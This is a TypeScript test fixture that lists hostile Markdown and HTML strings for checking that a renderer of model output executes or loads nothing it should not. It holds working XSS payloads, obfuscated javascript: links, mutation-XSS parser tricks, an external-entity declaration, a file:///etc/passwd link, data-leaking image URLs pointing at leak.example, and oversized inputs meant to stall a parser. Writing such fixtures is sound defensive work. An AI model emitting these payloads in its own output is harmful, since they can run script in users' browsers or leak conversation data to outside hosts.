/** What a model can be talked into saying: each is to run nothing, fetch nothing and draw nothing that is not on the list. */
export const hostileMarkdown: readonly string[] = [
  // HTML of all kinds.
  "<script>pwn()</script>",
  "<img src=https://leak.example/x onerror=pwn()>",
  '<svg/onload="pwn()"><animate onbegin=pwn() attributeName=x></svg>',
  '<iframe src="https://leak.example/frame" srcdoc="<script>parent.pwn()</script>"></iframe>',
  "**<style>@import 'https://leak.example/css';*{display:none}</style>**",
  '<base href="https://leak.example/"><meta http-equiv="refresh" content="0;url=https://leak.example/">',
  "<form action=https://leak.example/><button formaction=javascript:pwn()>go</button></form>",
  "<a href=javascript:pwn()>x</a><details open ontoggle=pwn()><input autofocus onfocus=pwn()>",
  "<link rel=stylesheet href=https://leak.example/css><object data=https://leak.example/o></object>",
  "<video src=https://leak.example/v autoplay onerror=pwn()><audio src=https://leak.example/a></video>",
  // Shapes that change their meaning when they are parsed again.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=pwn()>">',
  '<svg></p><style><a id="</style><img src=1 onerror=pwn()>">',
  "<template><script>pwn()</script></template><!--><img src=x onerror=pwn()>-->",
  "<![CDATA[<script>pwn()</script>]]><?xml version=1?><!DOCTYPE x [<!ENTITY y SYSTEM 'https://leak.example/'>]>",
  // Addresses.
  "[a](javascript:pwn()) [b](JaVaScRiPt:pwn()) [c]( javascript:pwn()) [d](\u0001javascript:pwn())",
  "[a](java\tscript:pwn()) [b](java\u00adscript:pwn()) [c](java\u200bscript:pwn()) [d](java\u0000script:pwn())",
  "[a](javascript&colon;pwn()) [b](&#106;avascript:pwn()) [c](&#x6a;avascript:pwn()) [d](javascript%3apwn())",
  "[a](ｊavascript:pwn()) [b](jаvascript:pwn()) [c](javascript：pwn()) [d](ſcript:pwn())",
  "[a](data:text/html,<script>pwn()</script>) [b](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
  "[a](vbscript:pwn()) [b](file:///etc/passwd) [c](blob:https://leak.example/x) [d](filesystem:https://leak.example/x)",
  "[a](about:blank) [b](view-source:https://leak.example/) [c](intent://x#Intent;end) [d](ws://leak.example/)",
  '[a](https://ok.example/"onmouseover="pwn()) [b](https://ok.example/ "t" onclick=pwn()) [c](<javascript:pwn()>)',
  "[a](//leak.example/x) [b](\\\\leak.example/x) [c](https:leak.example) [d](http://user:pass@leak.example/)",
  "[a](https://ok.example/\u202egpj.exe) [b\u202e](https://ok.example/) [c\u2066](tel:1\u20692)",
  "<javascript:pwn()> <https://ok.example/auto> <data:text/html,x> <mailto:a@ok.example>",
  "[a]: javascript:pwn()\n\n[a] [a][] [x][a] ![x][a]\n\n[^1]: <script>pwn()</script>",
  // Pictures, and links in links.
  "![p](https://leak.example/pixel.png?said=all) ![q](javascript:pwn()) ![r](data:image/svg+xml,<svg/onload=pwn()>)",
  "[![p](https://leak.example/p.png)](javascript:pwn()) [[a](javascript:pwn())](https://ok.example/)",
  "![![a](https://leak.example/1)](https://leak.example/2) [a](![b](https://leak.example/3))",
  "[a](https://ok.example/(b)c) [a](https://ok.example/ [b](javascript:pwn()))",
  // In every kind of block.
  "| <img src=x onerror=pwn()> | [a](javascript:pwn()) |\n| - | - |\n| `<script>` | ![p](https://leak.example/t) |",
  "> <script>pwn()</script>\n> - [a](javascript:pwn())\n>   1. ![p](https://leak.example/q)",
  "```html onload=pwn()\n<script>pwn()</script>\n```\n\n``<b onclick=pwn()>``",
  '```"><img src=x onerror=pwn()>\n</code></pre><script>pwn()</script>\n```',
  "# <script>pwn()</script> [a](javascript:pwn())\n\n- [x] <input onfocus=pwn() autofocus>\n\n$$<script>$$ \\(<b>\\)",
  // Characters.
  "\u0000<script\u0000>pwn()</script>\ud800\udc00\ud800 \udc00[\ud83d](https://ok.example/\ude00)",
  "\u202e\u2066\u200f\u061c<script>pwn()</script>\u2069\u202c\ufeff\u2028\u2029",
  "Z\u0351\u036b\u0343".repeat(30),
  // Much of it.
  ">".repeat(300),
  "*a _b ".repeat(60),
  "[".repeat(200) + "](javascript:pwn())",
  "|".repeat(200),
  "- ".repeat(100) + "`".repeat(100),
];
